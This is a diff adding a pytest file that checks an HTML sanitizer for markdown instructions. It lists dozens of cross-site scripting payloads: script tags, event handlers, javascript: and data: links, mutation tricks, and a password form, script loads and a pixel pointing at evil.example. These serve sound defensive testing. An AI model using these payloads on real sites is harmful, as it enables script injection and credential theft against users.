@@ -1,0 +1,137 @@
+"""Operators write instructions; they must do earners no harm."""
+
+import re
+import time
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tessera.projects.instructions import to_html
+
+ALLOWED = {
+    "a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "hr", "li", "ol", "p", "pre",
+    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
+}  # fmt: skip
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1)</script>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<iframe src='javascript:alert(1)'></iframe>",
+    "<body onload=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "<form action=//evil.example><input name=password></form>",
+    "<style>@import '//evil.example'</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<object data=//evil.example></object>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><script>alert(1)</script>-->",
+    "<details open ontoggle=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\u0001javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](vbscript:msgbox(1))",
+    "[x](file:///etc/passwd)",
+    "[x](<javascript:alert(1)>)",
+    "![x](https://evil.example/pixel.gif)",
+    "![x](javascript:alert(1))",
+    '![x](x "onerror=alert(1)")',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "<javascript:alert(1)>",
+    "<https://evil.example/\"onmouseover='alert(1)'>",
+    "[x](https://ok.example \"' onmouseover=alert(1) x='\")",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "# <script>alert(1)</script>",
+    "\\<script>alert(1)\\</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<a href=https://ok.example style=position:fixed;inset:0>x</a>",
+]
+
+
+class Reader(HTMLParser):
+    """What a browser would find: tags, attributes, link targets."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.targets: list[str] = []
+        self.words: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self.targets += [value or "" for name, value in attrs if name == "href"]
+
+    def handle_data(self, data: str) -> None:
+        self.words.append(data)
+
+
+def harmless(html: str) -> bool:
+    found = Reader(html)
+    safe = re.compile(r"(https?|mailto):|[^:]*$")
+    return (
+        found.tags <= ALLOWED
+        and found.attributes <= {"href", "rel", "title"}
+        and all(safe.match(target) for target in found.targets)
+    )
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_that_runs_loads_or_restyles_gets_through(attack: str) -> None:
+    assert harmless(to_html(attack))
+    assert harmless(to_html(f"before\n\n{attack}\n\nafter"))
+
+
+@given(st.lists(st.sampled_from([*ATTACKS, "*", "`", "\n", "[", "](", ">", "a", " ", "|"])))
+def test_no_mixture_of_attacks_gets_through_either(parts: list[str]) -> None:
+    assert harmless(to_html("".join(parts)))
+
+
+def test_what_operators_need_stays() -> None:
+    html = to_html(
+        "# Coins\n\nDraw *every* **coin**, also `cut` ones.\n\n1. first\n2. second\n\n> note\n\n"
+        "| do | don't |\n|---|---|\n| tight | loose |\n\n[example](https://ok.example/a?b=1&c=2)"
+    )
+    found = Reader(html)
+    assert {
+        "h1",
+        "em",
+        "strong",
+        "code",
+        "ol",
+        "li",
+        "blockquote",
+        "table",
+        "td",
+        "a",
+    } <= found.tags
+    assert found.targets == ["https://ok.example/a?b=1&c=2"]
+    assert 'rel="noopener noreferrer nofollow"' in html
+
+
+def test_html_is_shown_as_it_was_written() -> None:
+    assert "".join(Reader(to_html("<b>5 < 7 & so</b>")).words).strip() == "<b>5 < 7 & so</b>"
+
+
+@pytest.mark.parametrize("piece", ["[", "![", "*", "*a ", "> ", "- ", "`", "[a](", "|a", "<"])
+def test_the_longest_instructions_are_read_in_a_moment(piece: str) -> None:
+    began = time.process_time()
+    to_html(piece * (50_000 // len(piece)))
+    assert time.process_time() - began < 5
